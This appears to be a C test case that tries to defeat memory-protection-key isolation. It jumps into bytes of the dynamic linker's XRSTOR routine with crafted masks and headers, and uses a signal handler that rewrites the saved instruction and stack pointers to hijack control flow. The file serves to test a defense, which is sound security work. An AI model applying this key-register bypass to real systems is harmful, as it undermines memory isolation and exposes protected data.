/* A jump to each byte of the routine that replaces the dynamic linker's XRSTOR, with the key register in the mask: named open in the
 * area, absent from it (its initial state is open), in the compact form. Who comes back, by the normal return or by a handler of the
 * signal that changes where to go on, reads kernel memory. */
/* skip none: without a key there is nothing to open */
/* pkey: refused */
/* process: refused */
#include "restore.h"

static struct state state;
static int trapped;

static void came_back(void)
{
	_exit(keys() != LOCKED || loot() == 0 ? 0 : 255);
}

/* What a signal interrupts goes on where the attacker likes. */
static void redirect(int signal, siginfo_t *info, void *context)
{
	ucontext_t *at = context;
	if (keys() != LOCKED)
		_exit(0);
	if (trapped++ > 100)
		_exit(255);
	at->uc_mcontext.gregs[REG_RIP] = (uintptr_t)came_back;
	at->uc_mcontext.gregs[REG_RSP] = (uintptr_t)(state.below + 2048 - 8);
	at->uc_mcontext.gregs[REG_EFL] &= ~0x100l;
}

static struct try { uintptr_t to; uint64_t mask, present, compact; int handled, stepped; } now;

static int one(void *arg)
{
	own_stack();
	if (now.handled) {
		struct sigaction action = {.sa_sigaction = redirect, .sa_flags = SA_SIGINFO | SA_ONSTACK | SA_NODEFER};
		sigaction(SIGILL, &action, 0);
		sigaction(SIGTRAP, &action, 0);
		/* The attack ends with a fault too. */
		action.sa_flags |= SA_RESETHAND;
		sigaction(SIGSEGV, &action, 0);
	}
	memset(state.area, 0, sizeof state.area);
	*(uint32_t *)(state.area + 24) = 0x1f80;
	header(state.area, now.present, now.compact);
	if (now.stepped)
		asm volatile("sub $128, %%rsp; pushf; orl $0x100, (%%rsp); popf; add $128, %%rsp" ::: "memory", "cc");
	restore(now.to, state.area, now.mask);
	asm volatile("sub $128, %%rsp; pushf; andl $~0x100, (%%rsp); popf; add $128, %%rsp" ::: "memory", "cc");
	came_back();
	return REFUSED;
}

static int attack(void)
{
	static const uint64_t masks[] = {KEYS, KEYS | VECTORS, ~0ull, VECTORS};
	static const uint64_t headers[][2] = {{0, 0}, {KEYS, 0}, {KEYS, 1ull << 63 | KEYS}, {0, 1ull << 63 | KEYS}};
	uintptr_t routine = place("ATTACK_RESTORE", 0);
	if (!routine)
		return ENODATA;
	for (int byte = 0; byte < 20; byte++)
		for (unsigned m = 0; m < 4; m++)
			for (unsigned h = 0; h < (byte ? 1 : 4); h++)
				for (int way = 0; way < (byte ? 2 : 4); way++) {
					now = (struct try){routine + byte, masks[m], headers[h][0], headers[h][1], way & 1, way >> 1};
					if (try_apart(one, 0) == 0)
						return 0;
				}
	/* The same without the key must have come back, or nothing was tried. */
	now = (struct try){routine, VECTORS, 0, 0, 0, 0};
	return try_apart(one, 0) == -SIGSEGV ? REFUSED : ENODATA;
}
